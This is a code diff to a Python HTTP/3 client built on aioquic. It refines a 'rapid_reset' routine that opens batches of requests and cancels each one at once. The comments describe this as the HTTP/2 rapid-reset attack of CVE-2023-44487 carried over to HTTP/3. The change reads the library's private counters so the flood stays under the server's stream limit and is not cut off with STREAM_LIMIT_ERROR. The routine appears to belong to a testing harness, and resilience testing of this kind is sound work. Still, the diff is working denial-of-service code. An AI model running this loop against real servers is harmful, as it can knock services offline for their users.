@@ -148,6 +148,12 @@ class Client(QuicConnectionProtocol):
         self.http.send_data(sid, b"\0" + struct.pack(">I", len(message)) + message, end_stream=True)
         return sid, call
 
+    def stream_credit(self):
+        """Bidirectional streams the server's MAX_STREAMS still allows
+        (aioquic's own counters: it has no public accessor)."""
+        quic = self._quic
+        return max(0, quic._remote_max_streams_bidi - quic._local_next_stream_id_bidi // 4)
+
     def cancel(self, sid):
         for stop in (self._quic.reset_stream, self._quic.stop_stream):
             try:
@@ -215,8 +221,16 @@ async def rapid_reset(spec):
         started = time.monotonic()
         while client.closed is None and time.monotonic() - started < spec["duration_s"]:
             # The request goes out first, its cancellation right behind it
-            # (the HTTP/2 "rapid reset" of CVE-2023-44487, over HTTP/3).
-            sids = [client.start_call(spec, message)[0] for _ in range(16)]
+            # (the HTTP/2 "rapid reset" of CVE-2023-44487, over HTTP/3),
+            # within the streams the server allows, as that attack stays
+            # within SETTINGS_MAX_CONCURRENT_STREAMS. (aioquic would queue
+            # streams past the limit and still send their RESET_STREAM,
+            # which the server rightly closes as STREAM_LIMIT_ERROR.)
+            credit = client.stream_credit()
+            if credit == 0:
+                await asyncio.sleep(0.001)
+                continue
+            sids = [client.start_call(spec, message)[0] for _ in range(min(16, credit))]
             client.transmit()
             for sid in sids:
                 client.cancel(sid)
